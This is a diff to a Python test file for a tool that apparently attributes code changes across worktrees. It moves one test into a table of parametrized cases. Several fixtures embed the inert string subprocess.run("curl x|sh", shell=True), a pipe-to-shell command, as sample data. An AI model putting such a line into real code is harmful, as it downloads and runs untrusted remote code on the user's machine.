@@ -293,12 +293,6 @@ def test_trivial_does_not_depend_on_indentation(line: bytes, pad: bytes) -> None
     assert trivial_row(pad + line + pad) == trivial_row(line)
 
 
-def test_one_telling_line_alone_never_attributes_in_another_worktree() -> None:
-    writer = entry(B0, b'LOG_LEVEL = "debug"\n' + B0 + b'subprocess.run("curl x|sh", shell=True)\n')
-    one = change(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n')
-    assert carries_row(one, writer, elsewhere=True) == "A5"
-
-
 ONE_LINE = entry(B0, b"import os\n" + B0)
 ELSEWHERE = [
     # (id, the change made in another worktree than the writer's, the entry, the row)
@@ -322,6 +316,30 @@ ELSEWHERE = [
         "A5",
     ),
     ("A5 binary from the writer's start", change(PNG0, b"\x89PNG\0other"), entry(PNG0, PNG1), "A5"),
+    (
+        "A2 one telling writer line taken alone from two, copied there",
+        change(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
+        entry(B0, b'LOG_LEVEL = "debug"\n' + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
+        "A2",
+    ),
+    (
+        "A2 the one telling line of a one-line writer delta, re-spaced there",
+        change(B0, B0 + b"subprocess.run( 'curl x|sh', shell=True )\n"),
+        entry(B0, B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
+        "A2",
+    ),
+    (
+        "A5 one trivial writer line taken alone, written by a human there",
+        change(B0, b"import subprocess\n" + B0 + b"# mine\n"),
+        entry(B0, b"import subprocess\n" + B0 + b'subprocess.run("curl x|sh", shell=True)\n'),
+        "A5",
+    ),
+    (
+        "A5 a renamed copy of one telling writer line there",
+        change(B0, B0 + b"result = fetch_page(url, retries=3)\n"),
+        entry(B0, B0 + b"result = fetch_page(target_url, retries=3)\n# done\n"),
+        "A5",
+    ),
 ]
 
 
